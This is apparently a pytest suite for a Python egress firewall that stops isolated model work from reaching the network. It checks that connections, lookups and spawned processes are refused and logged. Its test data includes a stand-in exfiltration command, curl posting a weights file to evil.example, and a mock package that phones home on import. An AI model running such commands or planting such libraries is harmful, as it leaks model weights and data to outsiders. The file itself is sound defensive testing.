"""What tries to get out is refused and written down; a child process stands behind each wall."""

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from modelsmith.boundary.isolation.egress_log import FileJournal
from modelsmith.boundary.isolation.process_firewall import ProcessWall
from tests.support.clock import FixedClock
from tests.support.models import ROOT

pytestmark = pytest.mark.slow

LIKE_GIT = "true http://evil.example/git"
AWAY = "203.0.113.9"  # TEST-NET-3 (RFC 5737): nobody has it
NOBODY = ("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups")
NAMESPACE = "namespace" in ProcessWall(FixedClock()).held_by.by
needs_namespace = pytest.mark.skipif(
    not NAMESPACE, reason="this kernel permits this process no network namespace"
)


def behind(*words: str, prefix: tuple[str, ...] = (), **environment: str) -> dict:
    """Return what became of an attack from behind a wall."""
    return all_behind(*words, prefix=prefix, **environment)[-1]


def all_behind(
    *words: str, prefix: tuple[str, ...] = (), told: str = "", **environment: str
) -> list[dict]:
    """Return what became of each attack that one process tried."""
    found = subprocess.run(
        [*prefix, sys.executable, "-m", "tests.support.behind_wall", *words],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT), "PYTHONDONTWRITEBYTECODE": "1", **environment},
        input=told,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert found.stdout, found.stderr
    return [json.loads(line) for line in found.stdout.splitlines() if line.startswith("{")]


class Home(BaseHTTPRequestHandler):
    """Where something phones to."""

    def do_GET(self) -> None:
        self.server.calls.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"home")

    def log_message(self, *words: object) -> None:
        """Say nothing."""


@pytest.fixture
def home() -> Iterator[ThreadingHTTPServer]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Home)
    server.calls = []
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


def place(server: ThreadingHTTPServer) -> str:
    return f"127.0.0.1:{server.server_port}"


LEAVING = [
    (("connect", f"{AWAY}:443"), f"connection: {AWAY} port 443"),
    (("asynchronous", f"{AWAY}:443"), f"connection: {AWAY} port 443"),
    (("six", ""), "connection: 2001:db8::1 port 443"),
    (("datagram", f"{AWAY}:53"), f"connection: {AWAY} port 53"),
    (("lookup", "weights.example.com"), "lookup: weights.example.com"),
    (("old_lookup", "weights.example.com"), "lookup: weights.example.com"),
    (("lookup_back", "weights.example.com"), "lookup: weights.example.com"),
    (("lookup_back", AWAY), f"lookup: {AWAY}"),
    (("name_of", AWAY), f"lookup: {AWAY}"),
    (("fetch", "http://weights.example.com/"), "lookup: weights.example.com"),
    (("program", "curl http://weights.example.com"), "process: curl (subprocess.Popen)"),
    (("shell", "true"), "process: true (os.system)"),
    (("pipe", "true"), "process: /bin/sh (subprocess.Popen)"),
    (("spawned", "/bin/true"), "process: /bin/true (os.posix_spawn)"),
    (("spawned_by_name", "true"), "process: true (os.posix_spawn)"),
    (("spawned_in_python", "/bin/true"), "process: os.fork"),
    (("forked", ""), "process: os.fork"),
    (("terminal", ""), "process: os.forkpty"),
    (("terminal_with", "/bin/true"), "process: /bin/true (pty.spawn)"),
    (("replaced", "/bin/true"), "process: /bin/true (os.exec)"),
    (("replaced_by_name", "/bin/true"), "process: /bin/true (os.exec)"),
    (("message", f"{AWAY}:53"), f"connection: {AWAY} port 53"),
    (
        ("shell", "curl -d @weights http://evil.example/git"),
        "process: curl -d @weights http://evil.example/git (os.system)",
    ),
]
"""What is tried, and what is written down of it."""


@pytest.fixture(scope="module", params=[(), ("--within",)], ids=["around", "within"])
def left(request) -> tuple[str, list[dict]]:
    """Return why, and what became of each of `LEAVING`, all tried by one process."""
    tried = json.dumps([words for words, _ in LEAVING])
    why = "while local work was done" if request.param else "beyond what the run may reach"
    return why, all_behind(*request.param, "each", told=tried)


@pytest.mark.parametrize("number", range(len(LEAVING)), ids=lambda number: LEAVING[number][0][0])
def test_what_tries_to_leave_is_refused_and_written_down(left, number):
    why, all_found = left
    assert all_found[number]["raised"] in ("BoundaryError", "URLError")
    assert all_found[number]["refused"] == [f"{LEAVING[number][1]}: {why}"]


def test_a_thread_gets_out_no_more_than_the_work_that_started_it(home):
    found = behind("--within", "in_a_thread", place(home))
    assert "BoundaryError" in found["outcome"]
    assert found["refused"] == [
        f"connection: 127.0.0.1 port {home.server_port}: while local work was done"
    ]


PHONE = """
import threading, urllib.request
def call(outcome):
    try:
        outcome.append(urllib.request.urlopen({home!r}, timeout=3).read().decode())
    except BaseException as error:
        outcome.append(type(error).__name__)
def phone():
    outcome = []
    call(outcome)
    thread = threading.Thread(target=call, args=(outcome,))
    thread.start()
    thread.join()
    return outcome
"""
WHEN_IMPORTED = """
from friendly_adapter.telemetry import phone
OUTCOME = phone()
"""
WHEN_ASKED = """
def generate(prompt):
    from friendly_adapter.telemetry import phone
    return ["answered", *phone()]
"""


@pytest.mark.parametrize("by", ["opened", "asked", "trainer"])
@pytest.mark.parametrize(
    ("attack", "package"), [("library", WHEN_IMPORTED), ("generated", WHEN_ASKED)]
)
def test_a_library_that_phones_home_reaches_nobody(by, attack, package, home, tmp_path):
    adapter = tmp_path / "friendly_adapter"
    adapter.mkdir()
    (adapter / "__init__.py").write_text(package, encoding="utf-8")
    phone = PHONE.format(home=f"http://{place(home)}/weights")
    (adapter / "telemetry.py").write_text(phone, encoding="utf-8")
    path = f"{ROOT}{os.pathsep}{tmp_path}"
    found = behind("--by", by, attack, "friendly_adapter", PYTHONPATH=path)
    told = ["answered"] * (attack == "generated") + ["BoundaryError"] * 2
    outcome = {
        "opened": {"outcome": "answered"},
        "asked": {"outcome": str(told)},
        "trainer": {"raised": "LookupError", "words": f"trained: {told}"},
    }
    assert {name: found[name] for name in found if name not in {"held", "refused"}} == outcome[by]
    why = f"connection: 127.0.0.1 port {home.server_port}: while local work was done"
    assert found["refused"] == [why, why]
    assert home.calls == []


@pytest.mark.slow
@pytest.mark.parametrize("by", ["opened", "asked", "trainer"])
def test_a_model_cache_that_wants_the_hub_gets_no_answer(by, tmp_path):
    pytest.importorskip("huggingface_hub")
    found = behind("--by", by, "hub", HF_HUB_OFFLINE="0", HF_HOME=str(tmp_path))
    assert found["raised"] == "BoundaryError"
    assert found["words"].startswith("lookup kept in, while local work was done: huggingface.co")
    assert set(found["refused"]) == {"lookup: huggingface.co: while local work was done"}


def test_what_was_refused_is_written_down_before_the_process_is_killed(home, tmp_path):
    path = tmp_path / "outbound.jsonl"
    words = [sys.executable, "-m", "tests.support.behind_wall", "--by", "asked"]
    for times in (1, 2):
        done = subprocess.run(
            [*words, "--journal", path, "killed", place(home)],
            cwd=ROOT,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
            check=False,
        )
        assert done.returncode == -signal.SIGKILL
        found = [(line.what, line.target, line.why) for line in FileJournal(path).egress_events()]
        address = f"127.0.0.1 port {home.server_port}"
        assert found == [("connection", address, "while local work was done")] * times
    assert home.calls == []


@needs_namespace
def test_a_process_that_no_hook_hears_of_is_held_in_by_the_namespace(home):
    assert behind("--within", "multiplied", place(home))["outcome"] == "Network is unreachable"
    assert behind("multiplied", place(home))["outcome"] == "connected"


@needs_namespace
def test_a_library_in_c_is_held_in_by_the_namespace_and_by_nothing_else(home):
    assert behind("--within", "by_c", place(home))["outcome"] == "Network is unreachable"
    assert behind("by_c", place(home))["outcome"] == "connected"  # no hook hears of it


@needs_namespace
def test_local_work_does_not_get_its_network_back(home):
    found = behind("--within", "back_by_proc", place(home))
    assert found["outcome"] == "Operation not permitted"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root becomes nobody")
@needs_namespace
def test_a_user_without_rights_is_held_in_too(home):
    found = behind("--within", "by_c", place(home), prefix=NOBODY)
    if "namespace" not in found["held"]:
        pytest.skip("this kernel gives users no namespace of their own")
    assert found["outcome"] == "Network is unreachable"
    back = behind("--within", "back_by_proc", place(home), prefix=NOBODY)
    assert back["outcome"] == "Operation not permitted"


def test_who_is_allowed_is_reached_by_any_port_and_only_then(home):
    url = f"http://127.0.0.1:{home.server_port}/v1"
    assert behind("--towards", "127.0.0.1", "fetch", url)["outcome"] == "home"
    assert behind("--towards", "localhost", "connect", f"localhost:{home.server_port}")["outcome"]
    assert behind("--infrastructure", "127.0.0.*", "fetch", url)["outcome"] == "home"
    assert behind("--towards", "127.0.0.2", "fetch", url)["refused"]
    assert behind("--within", "--towards", "127.0.0.1", "fetch", url)["refused"]
    assert len(home.calls) == 2


def test_an_allowed_names_addresses_are_allowed_once_it_was_looked_up(home):
    found = behind("--towards", "localhost", "connect", place(home))
    assert found["refused"], "an address is nobody's until its name was asked for"


def test_a_proxy_before_who_is_allowed_is_reached_too(home):
    found = behind(
        *("--towards", "api.example.com", "fetch", "http://api.example.com/v1"),
        http_proxy=f"http://127.0.0.1:{home.server_port}",
    )
    assert found["outcome"] == "home"
    assert home.calls == ["http://api.example.com/v1"]


@pytest.mark.parametrize(
    ("variable", "proxy"),
    [
        ("HTTPS_PROXY", "{}"),
        ("https_proxy", "somebody:secret@{}"),
        ("all_proxy", "socks5h://somebody:secret@{}"),
    ],
)
def test_a_proxy_is_read_as_clients_write_it(variable, proxy, home):
    found = behind(
        *("--towards", "api.example.com", "connect", place(home)),
        **{variable: proxy.format(place(home))},
    )
    assert found.get("outcome") == "connected", found


def test_a_proxy_without_a_scheme_is_gone_through(home):
    found = behind(
        *("--towards", "api.example.com", "fetch", "http://api.example.com/v1"),
        http_proxy=place(home),
    )
    assert found["outcome"] == "home"


@pytest.mark.parametrize(
    "environment",
    [
        {"no_proxy": "127.0.0.1", "https_proxy": "proxy.example.com:3128"},
        {"ftp_proxy": "127.0.0.1"},
        {"https_proxy": "[127.0.0.1"},
    ],
)
def test_what_is_no_proxy_of_ours_is_not_let_in(environment, home):
    found = behind("--towards", "api.example.com", "connect", place(home), **environment)
    assert found["refused"] == [
        f"connection: 127.0.0.1 port {home.server_port}: beyond what the run may reach"
    ]


def test_git_may_be_started_by_the_step_and_not_by_local_work(tmp_path):
    assert behind("--within", "program", "git")["refused"]
    other = tmp_path / "git"
    other.write_text("#!/bin/sh\ntrue\n", encoding="utf-8")
    other.chmod(0o755)
    programs = [("program", name) for name in ("git", str(shutil.which("git")), str(other))]
    tried = json.dumps([*programs, ("elsewhere", str(tmp_path))])
    by_name, by_path, another, elsewhere = all_behind("each", told=tried)
    assert "usage: git" in by_name["outcome"]
    assert "usage: git" in by_path["outcome"]
    assert another["refused"] == [
        f"process: {other} (subprocess.Popen): beyond what the run may reach"
    ]
    assert elsewhere["refused"] == [
        "process: git (subprocess.Popen): beyond what the run may reach"
    ]


def test_a_store_behind_a_proxy_is_reached(home):
    found = behind(
        *("--infrastructure", "s3.example.com", "fetch", "http://s3.example.com/weights"),
        http_proxy=f"http://127.0.0.1:{home.server_port}",
    )
    assert found["outcome"] == "home"


@pytest.mark.parametrize("client", ["requests", "httpx", "aiohttp"])
def test_no_client_library_gets_out(client, home):
    pytest.importorskip(client)
    found = behind("--within", client, f"http://127.0.0.1:{home.server_port}/")
    assert "raised" in found
    assert [line.split(": ")[0] for line in found["refused"]] == ["connection"]
    assert home.calls == []


@pytest.mark.parametrize("where", [(), ("--within",)])
def test_what_stays_on_this_machine_is_no_business_of_the_wall(where, tmp_path):
    tried = json.dumps([("listening", ""), ("serving", ""), ("unix", str(tmp_path / "s"))])
    found = all_behind(*where, "each", told=tried)
    assert [one["outcome"] for one in found] == ["listens", "localhost", "connected"]


def test_what_local_work_raises_and_returns_comes_back():
    wall = ProcessWall(FixedClock())
    assert wall.within(lambda: threading.current_thread().name) == "local-work"
    assert wall.within(lambda: wall.within(lambda: 7)) == 7
    with pytest.raises(LookupError, match="no such thing"):
        wall.within(lambda: {}["no such thing"])


def test_without_a_wall_nothing_is_refused():
    wall = ProcessWall(FixedClock())
    with wall.standing(lambda _: None):
        pass
    with socket.create_server(("127.0.0.1", 0)) as server:
        socket.create_connection(server.getsockname()).close()


def test_an_interrupt_ends_local_work_and_lets_it_clear_up():
    child = subprocess.Popen(
        [sys.executable, "-m", "tests.support.behind_wall", "--within", "interrupted"],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert child.stdout is not None
    assert child.stdout.readline() == "working\n"
    child.send_signal(signal.SIGINT)
    out, err = child.communicate(timeout=30)
    assert out.startswith("cleared up\n")
    assert "KeyboardInterrupt" in err


def test_a_process_with_threads_is_given_no_namespace_of_users(tmp_path: Path):
    code = (
        "import threading; from modelsmith.boundary.isolation.network_namespace import prepare\n"
        "threading.Thread(target=threading.Event().wait, daemon=True).start()\nprint(prepare())"
    )
    found = subprocess.run(
        [*(NOBODY if os.geteuid() == 0 else ()), sys.executable, "-c", code],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert found.stdout == "False\n", found.stderr
